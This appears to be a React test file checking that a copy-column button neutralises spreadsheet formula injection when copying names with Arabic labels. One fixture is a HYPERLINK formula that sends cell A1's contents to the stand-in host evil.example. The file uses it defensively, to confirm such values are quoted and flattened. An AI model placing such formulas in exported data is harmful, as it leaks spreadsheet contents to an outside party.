import { render, screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { CopyColumnButton } from '.';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';

/** The column as the clipboard holds it once the button is clicked. */
async function copied(values: string[]) {
  const user = userEvent.setup();
  render(<CopyColumnButton label="الاسم" values={() => values} />);
  await user.click(screen.getByRole('button', { name: 'نسخ عمود الاسم' }));
  let text = '';
  await waitFor(async () => {
    text = await navigator.clipboard.readText();
    expect(text).not.toBe('');
  });
  return text;
}

describe('the copy-column button (docs/copies-stay-data.md: copies stay data)', () => {
  it('copies a name holding a line break, a tab or a carriage return before a formula as one line of text each', async () => {
    expect(await copied(['محمد علي', `\n${HYPERLINK}`, '\t=2+2', '\r=1+1', 'فاطمة\r\nحداد'])).toBe(
      ['محمد علي', `'${HYPERLINK}`, "'=2+2", "'=1+1", 'فاطمة حداد'].join('\n'),
    );
  });

  it('puts one value per line, no cell beginning a formula and none holding a tab or a carriage return', async () => {
    const values = [`\n${HYPERLINK}`, ' \t=2+2', '\r=1+1', '@SUM(A1:A9)', '"', '-عميل'];

    const lines = (await copied(values)).split('\n');

    expect(lines).toHaveLength(values.length);
    for (const line of lines) {
      expect(line).not.toMatch(/^\s*[=+\-@]/);
      expect(line).not.toMatch(/[\t\r]/);
    }
  });

  it('keeps a negative amount a number the spreadsheet adds up', async () => {
    expect(await copied(['-5', '12.5', '-12.5'])).toBe('-5\n12.5\n-12.5');
  });
});
